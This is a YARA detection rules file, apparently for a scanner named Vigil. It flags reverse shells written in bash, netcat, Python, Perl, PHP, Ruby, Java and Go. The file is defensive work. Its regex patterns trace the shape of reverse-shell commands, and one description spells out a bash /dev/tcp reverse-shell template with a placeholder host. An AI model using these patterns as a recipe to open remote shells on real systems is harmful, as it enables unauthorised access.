// Reverse shells: a shell whose input and output go to a network connection. Written for Vigil.

rule Reverse_Shell_Bash_Dev_Tcp
{
    meta:
        description = "Interactive shell redirected to a /dev/tcp or /dev/udp connection (bash -i >& /dev/tcp/HOST/PORT 0>&1)"
        severity = "critical"
        category = "reverse-shell"
        reference = "https://attack.mitre.org/techniques/T1059/004/"

    strings:
        $i_devtcp = /\b(ba|z|k|da)?sh\s+-i\s+[0-9]?>&\s*\/dev\/(tcp|udp)\/[^\/\s]{1,255}\/[0-9]{1,5}/
        $exec_fd = /exec\s+[0-9]{1,3}<>\s*\/dev\/(tcp|udp)\/[^\/\s]{1,255}\/[0-9]{1,5}/
        $fd_shell = /(ba)?sh\s+(-i\s+)?<&\s*[0-9]{1,3}\s+>&\s*[0-9]{1,3}/

    condition:
        $i_devtcp or ($exec_fd and $fd_shell)
}

rule Reverse_Shell_Netcat_Exec
{
    meta:
        description = "Netcat started with -e or -c running a shell, or a named-pipe shell piped through netcat"
        severity = "critical"
        category = "reverse-shell"
        reference = "https://attack.mitre.org/techniques/T1059/004/"

    strings:
        $nc_e = /\b(nc|ncat|netcat)(\.traditional|\.openbsd)?\s+([-a-zA-Z0-9.:]{1,64}\s+){0,6}-[ce]\s*\/bin\/(ba|z|da)?sh\b/
        $mkfifo = /mkfifo\s+\S{1,128}\s*;.{0,64}\/bin\/(ba)?sh\s+-i.{0,64}\|\s*(nc|ncat|netcat)\s/

    condition:
        $nc_e or $mkfifo
}

rule Reverse_Shell_Python
{
    meta:
        description = "Python reverse shell: a socket connected to a host whose file descriptor is duplicated onto stdin/stdout/stderr before a shell or pty is started"
        severity = "critical"
        category = "reverse-shell"
        reference = "https://attack.mitre.org/techniques/T1059/006/"

    strings:
        $socket = /socket\.socket\s*\(/ private
        $connect = /\.connect\s*\(\s*\(/ private
        $dup2 = /os\.dup2\s*\(\s*\w{1,32}\.fileno\s*\(\s*\)\s*,\s*[012]\s*\)/
        $pty = /pty\.spawn\s*\(\s*["']\/bin\/(ba|z)?sh["']/
        $sub = /subprocess\.(call|Popen|run)\s*\(\s*\[\s*["']\/bin\/(ba|z)?sh["']/
        $sub_stdin = /subprocess\.(call|Popen|run)\s*\([^)]{0,128}stdin\s*=\s*\w{1,32}\.fileno\s*\(\s*\)/

    condition:
        $socket and $connect and (($dup2 and ($pty or $sub)) or $sub_stdin)
}

rule Reverse_Shell_Perl
{
    meta:
        description = "Perl reverse shell: a connected INET socket duplicated onto STDIN/STDOUT and a shell executed"
        severity = "critical"
        category = "reverse-shell"
        reference = "https://attack.mitre.org/techniques/T1059/006/"

    strings:
        $socket = /socket\s*\(\s*\w{1,32}\s*,\s*PF_INET\s*,\s*SOCK_STREAM/ private
        $connect = /connect\s*\(\s*\w{1,32}\s*,\s*sockaddr_in\s*\(/ private
        $inet = /IO::Socket::INET\s*->\s*new\s*\(/
        $dup = /open\s*\(\s*STD(IN|OUT|ERR)\s*,\s*["']>&\s*\w{1,32}["']\s*\)/
        $dup2 = /STDIN->fdopen\s*\(\s*\$\w{1,32}\s*,\s*["']?r/
        $exec = /(exec|system)\s*\(?\s*["']\/bin\/(ba|z)?sh(\s+-i)?["']/

    condition:
        (($socket and $connect) or $inet) and ($dup or $dup2) and $exec
}

rule Reverse_Shell_Interactive_Socket
{
    meta:
        description = "Script that opens a network connection and runs an interactive shell (/bin/sh -i) over it (PHP fsockopen, Ruby TCPSocket, Java/Groovy Socket, Go net.Dial)"
        severity = "critical"
        category = "reverse-shell"
        reference = "https://attack.mitre.org/techniques/T1059/"

    strings:
        $shell = /\/bin\/(ba|z)?sh\s+-i/
        $php = /fsockopen\s*\(\s*["'$][^)]{1,128}\)/
        $ruby = /TCPSocket\s*\.\s*(new|open)\s*\(/
        $java = /new\s+(java\.net\.)?Socket\s*\(\s*["'a-zA-Z_][^)]{0,128},\s*[0-9a-zA-Z_]{1,32}\s*\)/
        $go = /net\.Dial\s*\(\s*"tcp"/
        $fd_redirect = /<&\s*([0-9]{1,3}|%d)\s+>&\s*([0-9]{1,3}|%d)\s+2>&\s*([0-9]{1,3}|%d)/
        $proc = /(getInputStream|getOutputStream|\.Stdin\s*=|\.Stdout\s*=|proc_open|exec\s*\(|popen\s*\(|spawn\s*\()/

    condition:
        filesize < 2MB and $shell and ($php or $ruby or $java or $go) and ($fd_redirect or $proc)
}
